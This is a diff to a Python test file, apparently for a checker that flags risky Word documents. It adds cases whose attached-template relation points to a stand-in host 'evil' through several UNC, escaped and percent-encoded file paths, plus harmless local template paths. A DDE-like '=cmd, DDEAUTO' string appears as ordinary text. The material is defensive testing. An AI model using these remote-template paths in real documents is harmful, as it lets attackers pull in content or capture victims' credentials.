@@ -137,10 +137,19 @@ DOCUMENTS = {
         word(word___rels__settings_xml_rels=relation("attachedTemplate", "//evil.example/t.dotm", "Internal")),
         "fetches a part of itself",
     ),
-    "a template of another folder": (
-        word(word___rels__settings_xml_rels=TEMPLATE.format("file:///S:\\Templates\\Plan.dotx")),
-        "fetches a part of itself",
-    ),
+    **{
+        f"a template at {target}": (
+            word(word___rels__settings_xml_rels=TEMPLATE.format(target)),
+            "fetches a part of itself",
+        )
+        for target in (
+            "file:////evil/Plan.dotx",
+            "file:///S:\\\\evil\\Plan.dotx",
+            "S:\\?\\UNC\\evil\\Plan.dotx",
+            "file:///%5C%5Cevil/Plan.dotx",
+            "/\\evil\\Plan.dotx",
+        )
+    },
     **{
         f"its {kind} elsewhere": (
             word(word___rels__document_xml_rels=relation(kind, "file://evil/x")),
@@ -228,6 +237,10 @@ ORDINARY = {
     "large": attacks.packed_page(100),
     "saved twice": one_page() + one_page()[9:],
     "ends in blank lines": one_page() + b"\r\n\r\n" + bytes(512),
+    **{
+        f"template at {target}": word(word___rels__settings_xml_rels=TEMPLATE.format(target))
+        for target in ("file:///S:\\Templates\\Plan.dotx", "file:///C:/Our%20templates/Plan.dotx", "Plan.dotx")
+    },
     "words": word("<w:p><w:r><w:t>=cmd, DDEAUTO</w:t><w:instrText>PAGE</w:instrText></w:r></w:p>"),
     "fields": word(
         field(" TOC \\o ", '"1-3" \\h', result=inner(field("PAGEREF _Toc1 \\h")))
